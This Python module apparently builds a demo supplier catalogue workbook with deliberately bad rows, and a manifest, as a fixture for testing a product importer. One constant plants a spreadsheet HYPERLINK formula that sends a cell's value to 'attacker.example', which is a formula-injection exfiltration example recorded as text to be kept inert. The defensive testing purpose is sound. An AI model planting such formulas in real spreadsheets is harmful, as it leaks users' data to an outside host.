"""The first supplier's workbook: ``supplier/catalogue.xlsx``.

A header reads ``code``, ``code [unit]``, ``code@locale``, ``code@MARKET`` or ``code@MARKET/locale``.
"""

import re
from io import BytesIO
from pathlib import Path
from typing import Any, Final
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from config.demo.files.bad_rows import BadRow, make_bad_rows
from config.demo.files.products import Cell, Product
from config.demo.files.words import LOCALES

FORMULA: Final = '=HYPERLINK("https://attacker.example/?q="&A2,"open me")'

HEADERS: Final = (
    "sku",
    "parent_sku",
    "family",
    "gtin",
    "brand",
    *(f"name@{locale}" for locale in LOCALES),
    "name@GB/en-GB",
    *(f"description@{locale}" for locale in LOCALES),
    "features@en-GB",
    "colour",
    "size",
    "material",
    "weight",
    "length [cm]",
    "volume [l]",
    "waterproof",
    "recycled_share",
    "warranty_months",
    "launch_date",
    "season",
    *(f"care@{locale}" for locale in LOCALES),
    "origin_country",
    "search_words@en-GB",
    "price@GB",
    "price@DE",
    "price@FR",
    "price@US",
    "price@JP",
    "cost",
    "supplier_note",
)

Row = dict[str, Cell]


def write_workbook(path: Path, seed: int, products: list[Product]) -> dict[str, Any]:
    """Write the workbook and return the manifest's ``catalogue`` section.

    Keys: ``rows`` good and bad ones; ``good``, ``models``, ``variants``, ``simple``; ``products``; ``filled``
    (non-empty cells of good rows per header); ``kept_as_text``; ``bad``, its ``row`` as a spreadsheet counts.
    """
    good = [
        dict(product.cells, sku=product.sku, parent_sku=product.parent, family=product.family) for product in products
    ]
    injected = next(row for row, product in zip(good, products, strict=True) if product.family == "bags")
    injected["search_words@en-GB"] = FORMULA
    bad = make_bad_rows(seed, products)
    rows = list(good)
    for place, entry in enumerate(bad):
        # Spread among the good ones, but the repeated SKU stays behind its first use.
        at = len(rows) if entry.cause == "duplicate_sku" else (place + 1) * len(good) // (len(bad) + 1) + place
        rows.insert(at, entry.cells)
    save(path, rows)
    return section(path, rows, good, bad, products) | {
        "kept_as_text": [{"sku": injected["sku"], "column": "search_words@en-GB", "value": FORMULA}],
    }


def section(path: Path, rows: list[Row], good: list[Row], bad: list[BadRow], products: list[Product]) -> dict[str, Any]:
    """Count what was put in."""
    parents = {product.parent for product in products if product.parent}
    faulty = [
        {
            "row": next(at for at, row in enumerate(rows, 2) if row is entry.cells),
            "sku": entry.cells["sku"],
            "cause": entry.cause,
            "column": entry.column,
            "value": entry.cells[entry.column],
            "fix": entry.fix,
        }
        for entry in bad
    ]
    return {
        "file": f"supplier/{path.name}",
        "sheet": "Products",
        "rows": len(rows),
        "good": len(good),
        "models": len(parents),
        "variants": sum(product.parent is not None for product in products),
        "simple": sum(product.parent is None and product.sku not in parents for product in products),
        "bad": sorted(faulty, key=lambda entry: int(entry["row"])),
        "products": [
            {"sku": p.sku, "parent": p.parent, "family": p.family, "gtin": p.gtin, "axes": p.axes} for p in products
        ],
        "filled": {header: sum(row.get(header) is not None for row in good) for header in HEADERS},
    }


def save(path: Path, rows: list[Row]) -> None:
    """Write the rows; text that begins like a formula is stored as text, as a supplier's export would."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None  # noqa: S101  a new workbook has a sheet
    sheet.title = "Products"
    sheet.append(list(HEADERS))
    for row in rows:
        sheet.append([row.get(header) for header in HEADERS])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        sheet.column_dimensions[get_column_letter(cell.column)].width = 18
    for line in sheet.iter_rows(min_row=2):
        for cell in line:
            if cell.data_type == "f":
                cell.data_type = "s"
    sheet.freeze_panes = "B2"
    notes = book.create_sheet("Notes")
    notes.append(["Prices without tax where the currency is USD. Weights as weighed in the warehouse."])
    raw = BytesIO()
    book.save(raw)
    path.write_bytes(without_clock(raw.getvalue()))


def without_clock(workbook: bytes) -> bytes:
    """Return the same workbook with every time stamp set to the start of 2025, so that bytes repeat."""
    result = BytesIO()
    with ZipFile(BytesIO(workbook)) as source, ZipFile(result, "w", ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "docProps/core.xml":
                content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2025-01-01T00:00:00Z", content)
            info = ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            info.compress_type = ZIP_DEFLATED
            target.writestr(info, content)
    return result.getvalue()
